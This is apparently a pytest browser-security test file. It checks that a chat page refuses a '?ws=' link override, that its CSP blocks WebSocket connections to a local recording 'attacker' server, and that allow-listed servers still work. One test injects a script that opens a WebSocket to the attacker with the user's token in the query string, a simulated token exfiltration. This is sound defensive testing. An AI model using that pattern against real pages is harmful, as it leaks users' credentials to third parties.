"""Issue 12, finding 1: a link with ``?ws=`` must not make the page send its token elsewhere.

The page puts the token on the connect URL (``?token=``), so whoever the page dials gets it.
Each test starts a recording "attacker" WebSocket server on 127.0.0.1 next to the real local
gateway in jwt mode, opens the page with ``?ws=`` pointing at the attacker, signs in with a
valid token, and checks that the attacker saw nothing: the script refuses the override, and
the CSP's ``connect-src`` blocks the attacker even when the script is bypassed.
"""

from __future__ import annotations

import asyncio
import threading
from collections.abc import Iterator
from typing import Any

import pytest
from websockets.asyncio.server import Server, ServerConnection, serve
from websockets.http11 import Request

from tests.browser.conftest import BrowserFactory, SwitchboardGateway
from tests.browser.test_chat import ChatPage, page_url
from tests.helpers import JWT_ENV, token

pytestmark = [pytest.mark.browser, pytest.mark.timeout(90)]


class RecordingServer:
    """A WebSocket server on an ephemeral 127.0.0.1 port, in its own thread, that records the
    request target (path and query, so any token) of every handshake it receives and accepts it."""

    def __init__(self) -> None:
        self.requests: list[str] = []
        self._lock = threading.Lock()
        self._loop = asyncio.new_event_loop()
        self._thread = threading.Thread(target=self._loop.run_forever, daemon=True)
        self._server: Server | None = None

    @property
    def origin(self) -> str:
        assert self._server is not None
        port = self._server.sockets[0].getsockname()[1]
        return f"ws://127.0.0.1:{port}"

    def seen(self) -> list[str]:
        with self._lock:
            return list(self.requests)

    def _record(self, _: ServerConnection, request: Request) -> None:
        with self._lock:
            self.requests.append(request.path)

    async def _hold(self, connection: ServerConnection) -> None:
        await connection.wait_closed()

    async def _serve(self) -> Server:
        return await serve(self._hold, "127.0.0.1", 0, process_request=self._record)

    def start(self) -> RecordingServer:
        self._thread.start()
        self._server = asyncio.run_coroutine_threadsafe(self._serve(), self._loop).result(10)
        return self

    def stop(self) -> None:
        if self._server is not None:
            self._server.close()
            asyncio.run_coroutine_threadsafe(self._server.wait_closed(), self._loop).result(10)
        self._loop.call_soon_threadsafe(self._loop.stop)
        self._thread.join(timeout=10)
        self._loop.close()


@pytest.fixture
def attacker() -> Iterator[RecordingServer]:
    server = RecordingServer().start()
    try:
        yield server
    finally:
        server.stop()


def jwt_gateway(switchboard_gateway: SwitchboardGateway, **env: str) -> Any:
    return switchboard_gateway(auth_mode="jwt", env={**JWT_ENV, **env})


def test_with_auth_on_a_ws_link_is_refused_and_the_token_goes_only_to_the_stage(
    browser: BrowserFactory, switchboard_gateway: SwitchboardGateway, attacker: RecordingServer
) -> None:
    gateway = jwt_gateway(switchboard_gateway)
    page = ChatPage.open(browser("victim"), page_url(gateway, f"ws={attacker.origin}/api"))
    refused = page.find("#ws-refused")
    assert refused.is_displayed()
    assert "Refused" in refused.text and attacker.origin in refused.text
    assert not page.all("#ws-override")
    server = page.find("#ws-url")
    assert server.get_attribute("value") == gateway.urls.websocket
    assert server.get_attribute("readonly") is not None  # locked to the stage's own URL

    page.connect(jwt=token("u_victim"))
    # The one socket the page opened is the stage's: once it is identified, nothing else is pending.
    assert page.status()[1] == "Connected as u_victim"
    assert attacker.seen() == []


def test_a_bypassed_script_still_cannot_reach_the_attacker_past_the_csp(
    browser: BrowserFactory, switchboard_gateway: SwitchboardGateway, attacker: RecordingServer
) -> None:
    gateway = jwt_gateway(switchboard_gateway)
    page = ChatPage.open(browser("victim"), page_url(gateway))
    secret = token("u_victim")

    # Unlock the Server field and point it at the attacker: the script refuses to dial it.
    page.driver.execute_script(
        "const f = document.getElementById('ws-url'); f.readOnly = false; f.value = arguments[0];",
        f"{attacker.origin}/api",
    )
    page.type_into("#token", secret)
    page.find("#connect").click()
    assert "Refused to send the token" in page.wait_error("config").text

    # Dial the attacker directly, as an injected script would: the CSP blocks the connection.
    outcome = page.driver.execute_async_script(
        """
        const done = arguments[arguments.length - 1];
        document.addEventListener("securitypolicyviolation", (e) => done({blocked: e.violatedDirective}));
        let sock = null;
        try { sock = new WebSocket(arguments[0]); } catch (e) { /* older browsers throw here */ }
        if (sock) sock.addEventListener("open", () => done({opened: true}));
        """,
        f"{attacker.origin}/api?token={secret}",
    )
    assert outcome == {"blocked": "connect-src"}
    # A blocked connection never leaves the browser: the attacker heard nothing.
    assert attacker.seen() == []


def test_an_allow_listed_server_may_be_chosen_with_ws(
    browser: BrowserFactory, switchboard_gateway: SwitchboardGateway, attacker: RecordingServer
) -> None:
    # A second recording server stands in for another server the stage trusts.
    trusted = RecordingServer().start()
    try:
        gateway = jwt_gateway(switchboard_gateway, WEBSOCKET_URL_ALLOWLIST=trusted.origin)
        page = ChatPage.open(browser("victim"), page_url(gateway, f"ws={trusted.origin}/api"))
        assert trusted.origin in page.find("#ws-override").text
        assert not page.all("#ws-refused")
        secret = token("u_victim")
        page.type_into("#token", secret)
        page.find("#connect").click()
        page.until(lambda _: trusted.seen(), "the allow-listed server to be dialled")
        assert trusted.seen() == [f"/api?token={secret}"]
        assert attacker.seen() == []
    finally:
        trusted.stop()
